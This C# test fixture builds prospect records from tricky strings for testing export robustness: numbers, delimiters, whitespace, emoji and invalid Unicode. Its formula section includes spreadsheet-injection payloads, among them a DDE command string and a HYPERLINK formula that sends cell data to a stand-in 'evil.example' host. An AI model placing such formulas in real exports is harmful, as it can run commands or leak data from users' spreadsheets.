namespace InboxSdk.Tests.Programs;

/// <summary>Prospects as real accounts have them, and worse ones: each value has spoiled an export in some program.</summary>
internal static class HostileProspects
{
    private static readonly string[] Names =
    [
        // Formulas.
        "=1+1", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
        "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(1)", "=1+\",=2+2", "{=1+1}", "=", "+", "-", "@",
        // Numbers, dates and constants to a program.
        "1e5", "0012", "1E400", "-0", "+1", "1,234", "1.5", "1/2", "3-4", "12:30", "2026-01-02", "1 Jan", "TRUE", "false", "NULL", "NA", "nan", "Infinity", "#N/A", "0x1F", "1_000", "\uFF11\uFF12",
        "\u0663\u0664", "50%", "$5", "(5)", "1234567890123456789", "007", ".5",
        // Delimiters, quotes and escapes.
        "'", "'quoted", "\"", "\"\"", "\"quoted\"", "5\" disk", ",", "a,b", ";", "a;b", "a\tb", "a|b", "\\", "\\N", "a\\", "sep=;", "ID", "#comment", "<b>&amp;</b>", "]]>", "&#65;", "%s",
        // White space and line breaks.
        "line\nbreak", "line\r\nbreak", "line\rbreak", "trailing\n", " leading", "trailing ", "  ", "\u00A0x\u00A0", "\u3000", "a\u2028b", "a\u0085b",
        // Scripts and emoji.
        "\U0001F469\u200D\U0001F469\u200D\U0001F467 Smith", "\U0001F3F3\uFE0F\u200D\U0001F308", "\U0001F44D\U0001F3FD", "\U0001F1E9\U0001F1EA", "\u05E2\u05D1\u05E8\u05D9\u05EA", "\u202Ereversed",
        "\u2066x\u2069", "e\u0301", "\u5C71\u7530\u592A\u90CE", "\U00020BB7\u91CE\u5BB6", "\uFEFFx", "a\u200Bb", "Zo\u00EB", "\u0130\u0131\u00DF",
        // What XML or C strings cannot contain, and escapes of workbooks.
        "\uFFFE", "a\uFFFFb", "\uD83D", "a\uDE00b", "\uDE00\uD83D", "\0", "a\0b", "\u0001", "a\u001Fb", "\u001A", "a\u007Fb", "_x0041_", "_x005F_", "a_x000D_b", "_X0041_", "_xD83D_", "__x0041_",
        // Length.
        new('x', 300), new('\u00E9', 2_000),
    ];

    private static readonly string[] Handles = ["1e5", "0012", "_", "__", "007", "1E10", "12345678", "e1", "TRUE", "null", "nan", "0x1F", "1_000", "_x0041_", "johndoe"];

    private static readonly string[] Ids =
        ["1234567890123456789", "999999999999999999", "1000000000000000001", "9007199254740993", "0012345678901234567", "1844674407370955161", "12", "100000000000000000"];

    /// <summary>Gets the prospects: 114, of which no two have the same id.</summary>
    public static IReadOnlyList<Prospect> All { get; } =
    [
        .. Names.Select((name, index) => new Prospect
        {
            Id = $"prospect_{index}",
            PlatformId = Ids[index % Ids.Length],
            Username = Handles[index % Handles.Length],
            Name = name,
            FollowerCount = index * 977,
            IsVerified = index % 2 == 0,
            Notes = index % 3 == 0 ? name : null,
            Valuation = index % 4 == 0 ? 75000.25m : null,
        }),
    ];
}
